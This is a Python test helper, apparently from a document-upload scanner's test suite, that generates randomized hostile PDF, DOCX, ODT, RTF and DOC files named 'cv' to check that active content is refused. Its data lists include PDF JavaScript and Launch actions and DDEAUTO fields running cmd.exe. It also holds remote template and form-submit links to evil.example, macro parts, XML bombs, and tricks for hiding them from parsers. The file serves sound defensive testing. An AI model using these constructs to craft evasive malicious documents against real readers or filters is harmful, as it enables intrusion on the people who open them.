"""Hostile documents, drawn by lot: something active, in one of the places where it acts, hidden in one of many ways."""

import io
import zipfile
import zlib
from collections.abc import Callable
from random import Random

from tests import files
from tests.models.documents.samples import ACCEPTED, REFUSED
from tests.models.documents.samples.docx import TYPES, WITH_MACROS, field
from tests.models.documents.samples.parts import DTD, EVIL
from tests.models.documents.samples.pdf import packed

Made = tuple[str, bytes]
KNOWN = [*ACCEPTED.values(), *(made for cases in REFUSED.values() for made in cases.values() if len(made[1]) < 50_000)]


def document(chance: Random) -> Made:
    """A name and a content: made to act, or one that the tests know, changed by chance."""
    make: Callable[[Random], Made] = chance.choice([pdf, pdf, pdf, docx, odt, rtf, doc, changed])
    name, content = make(chance)
    return name, content if chance.random() < 0.7 else scrambled(chance, content)


def changed(chance: Random) -> Made:
    name, content = chance.choice(KNOWN)
    return name, content if chance.random() < 0.5 or not content.startswith(b"PK") else repacked(chance, content)


def repacked(chance: Random, content: bytes) -> bytes:
    """A zip with one of its parts changed: outside, the sums would tell at once."""
    try:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
    except (zipfile.BadZipFile, RuntimeError):
        return scrambled(chance, content)
    name = chance.choice(list(parts))
    return files.archive(parts | {name: scrambled(chance, parts[name])})


def scrambled(chance: Random, content: bytes) -> bytes:
    """The content with a few bytes changed, cut out, doubled or moved; the first ones stay, to get past the door."""
    data = bytearray(content)
    for _ in range(chance.randint(1, 6)):
        place, length = chance.randrange(min(8, len(data)), len(data) + 1), chance.choice([1, 1, 2, 4, 40])
        match chance.randrange(4):
            case 0:
                data[place : place + length] = chance.randbytes(length)
            case 1:
                del data[place : place + length]
            case 2:
                data[place:place] = data[place : place + length]
            case _:
                data[place:place] = chance.choice([b"(", b")", b"<", b">", b"%", b"\0", b"\xff", b"\\", b"{", b"}"])
    return bytes(data)


# --- PDF ---------------------------------------------------------------------------------------------------------

ACTIONS = [
    b"/S /JavaScript /JS (app.alert\\(1\\))",
    b"/S /JavaScript /JS <6170702e616c657274>",
    b"/S /Launch /F (cmd.exe)",
    b"/S /URI /URI (https://evil.example)",
    b"/S /URI /URI (javascript:alert\\(1\\))",
    b"/S /GoToR /F (other.pdf) /D [0 /Fit]",
    b"/S /GoToE /T << /R /C /N (x) >>",
    b"/S /SubmitForm /F (https://evil.example)",
    b"/S /Rendition /R 9 0 R",
    b"/S /ImportData /F (x.fdf)",
    b"/S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >>",
]
CATALOGS = [
    b"/OpenAction << %b >>",
    b"/OpenAction 6 0 R",
    b"/AA << /WC << %b >> >>",
    b"/Names << /JavaScript << /Names [(x) << %b >>] >> >>",
    b"/Names << /EmbeddedFiles << /Names [(x) << /Type /Filespec /F (x) /EF << /F 4 0 R >> >>] >> >>",
    b"/AcroForm << /XFA 4 0 R /Fields [] >>",
]
PAGES = [
    b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << %b >> >>]",
    b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 6 0 R >>]",
    b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /EF << /F 4 0 R >> >> >>]",
    b"/Annots [<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << %b >> >>]",
    b"/AA << /O << %b >> >>",
]
GAPS = [b" ", b"\n", b"\r", b"\0", b"\f", b"\t", b"%x\n", b"%(\n", b"\x80", b"\xff", b"<(>", b"<%>", b"(\\()"]
STREAMS = [b"stream\n", b"stream\r\n", b"stream\r", b"stream \n", b"stream%\n", b"stream\0\n", b"stream\t", b"stream"]


def pdf(chance: Random) -> Made:
    action = chance.choice(ACTIONS)
    if chance.random() < 0.2:
        content = packed(chance.choice(STREAMS), chance.choice([b"", b"%1\n", b" ", b"\0"]))
        return "cv.pdf", hidden(chance, content)
    catalog, pages, page, *others = files.pdf_objects()
    place = chance.choice(CATALOGS + PAGES)
    keys = hidden(chance, place % action if b"%b" in place else place)
    if place in CATALOGS:
        catalog = catalog.replace(b"/Pages", keys + b" /Pages")
    else:
        page = page.replace(b"/Parent", keys + b" /Parent")
    content = files.pdf_of([catalog, pages, page, *others, hidden(chance, b"<< %b >>" % action)])
    return "cv.pdf", damaged_table(chance, content)


def hidden(chance: Random, keys: bytes) -> bytes:
    """The same to a reader, or nearly: names in codes, odd gaps between the words."""
    words = keys.split(b" ")
    for _ in range(chance.randint(0, 2)):
        index = chance.randrange(len(words))
        words[index] = in_codes(chance, words[index]) if chance.random() < 0.5 else words[index] + chance.choice(GAPS)
    return b" ".join(words)


def in_codes(chance: Random, word: bytes) -> bytes:
    if not word.startswith(b"/") or not word[1:].isalpha():
        return word
    place = chance.randrange(1, len(word))
    return word[:place] + b"#%02x" % word[place] + word[place + 1 :]


def damaged_table(chance: Random, content: bytes) -> bytes:
    """A reader goes by the table of contents, rebuilds it, or finds a later one."""
    match chance.randrange(5):
        case 0:
            return content.replace(b"startxref\n", b"startxref\n9")
        case 1:
            return content.replace(b"1 0 obj", b"1 0" + chance.choice(GAPS) + b"obj")
        case 2:
            later = b"6 0 obj\n<< %b >>\nendobj\n" % chance.choice(ACTIONS)
            return content + later + b"trailer\n<< /Size 9 /Root 1 0 R >>\nstartxref\n0\n%%EOF\n"
        case 3:
            drawn = zlib.compress(b"7 0 obj << %b >> endobj" % chance.choice(ACTIONS), 0)
            return content.replace(b"\nendstream", drawn + b"\nendstream", 1)
    return content


# --- Zips --------------------------------------------------------------------------------------------------------

LINKS = [
    "oleObject",
    "attachedTemplate",
    "image",
    "hyperlink",
    "frame",
    "aFChunk",
    "subDocument",
    "vbaProject",
    "control",
]
TARGETS = [EVIL, r"\\evil\x.dotm", "file://evil/x", "javascript:alert(1)", "https://evil.example", "mhtml:x", "a.bin"]
FIELDS = [
    'DDEAUTO c:\\\\cmd.exe "/k calc"',
    ' INCLUDEPICTURE "https://evil.example/p.png"',
    '"DDE" cmd x',
    " LINK x",
    " PAGE ",
]


def docx(chance: Random) -> Made:
    parts = files.docx_parts()
    match chance.randrange(6):
        case 0:
            relation = files.relationships(
                chance.choice(LINKS), chance.choice(TARGETS), chance.choice(["External", " external"])
            )
            parts[chance.choice(["word/_rels/document.xml.rels", "_rels/.RELS", "word/_rels/a.rels"])] = relation
        case 1:
            parts = files.docx_parts(body=field(chance.choice(FIELDS)))
        case 2:
            parts[chance.choice(["word/vbaProject.bin", "WORD/VBAPROJECT.BIN", "word/vbaData.xml"])] = b"<a/>"
        case 3:
            parts["[Content_Types].xml"] = chance.choice([WITH_MACROS, TYPES.replace("xml", "XML", 1)])
        case 4:
            inner = chance.choice([files.docx(), files.odt(), files.ole({"a": b"x"}), files.exe(), files.archive({})])
            parts[chance.choice(["word/media/a.png", "word/embeddings/a.docx", "a.bin"])] = inner
        case _:
            parts["word/a.xml"] = chance.choice([DTD, "<a>" * 3_000, "<a/>" * 400_000, "<a/>" * 90_000])
    return "cv.docx", files.archive({name: encoded(chance, part) for name, part in parts.items()})


def encoded(chance: Random, part: str | bytes) -> str | bytes:
    if isinstance(part, bytes) or chance.random() < 0.8:
        return part
    return part.replace("UTF-8", "UTF-16").encode("utf-16") if chance.random() < 0.5 else part.replace("e", "&#101;", 1)


BODIES = [
    '<draw:image xlink:href="{0}"/>',
    '<draw:object xlink:href="{0}"/>',
    '<text:a xlink:href="{0}">x</text:a>',
    '<text:section-source xlink:href="{0}"/>',
    '<draw:floating-frame xlink:href="{0}"/>',
    '<office:event-listeners><script:event-listener xlink:href="{0}"/></office:event-listeners>',
    '<office:dde-source office:dde-application="soffice"/>',
    '<draw:plugin xlink:href="{0}"/>',
]


def odt(chance: Random) -> Made:
    target = chance.choice([*TARGETS, "vnd.sun.star.script:a", "../a.png", "/etc/passwd"])
    parts = files.odt_parts(body=chance.choice(BODIES).format(target))
    match chance.randrange(4):
        case 0:
            parts[chance.choice(["Basic/Standard/a.xml", "Scripts/python/a.py", "BASIC/a.xml"])] = "<a/>"
        case 1:
            parts["Object 1"] = chance.choice([files.ole({"a": b"x"}), files.odt(), files.exe()])
        case 2:
            parts["styles.xml"] = chance.choice([DTD, "<a/>" * 400_000])
    return "cv.odt", files.archive({name: encoded(chance, part) for name, part in parts.items()})


# --- RTF, Word before 2007 ---------------------------------------------------------------------------------------

GROUPS = [
    r"{\object\objemb{\*\objdata 0105}}",
    r"{\*\template http://evil.example/x.dotm}",
    r"{\*\template \\\\evil\\x.dotm}",
    r'{\field{\*\fldinst{DDEAUTO cmd "/k calc"}}}',
    r"{\field{\*\fldinst INCLUDEPICTURE http://evil.example/p}}",
    r"{\pict\bin4 }}}}}",
    r"{\field{\*\fldinst IF {\field{\*\fldinst DDE cmd x}} = 1}}",
]


def rtf(chance: Random) -> Made:
    group = chance.choice(GROUPS)
    for _ in range(chance.randint(0, 3)):
        place = chance.randrange(1, len(group))
        odd = chance.choice([r"\'44", r"\u68?", "{}", r"{\b }", "\n", r"\*", "\\\n", " "])
        group = group[:place] + odd + group[place:]
    return "cv.rtf", files.rtf(extra=group)


def doc(chance: Random) -> Made:
    streams = chance.choice(
        [{"Macros/VBA/dir": b"x"}, {"ObjectPool/_1/\x01Ole10Native": b"x"}, {"1Table": EVIL.encode("utf-16-le")}, {}]
    )
    instruction = chance.choice(["", "\x13DDEAUTO cmd\x15", "\x13 INCLUDETEXT x\x15", "\x13PAGE\x15"])
    return "cv.doc", files.doc(instruction, flags=chance.choice([0x0200, 0x0300]), streams=streams)
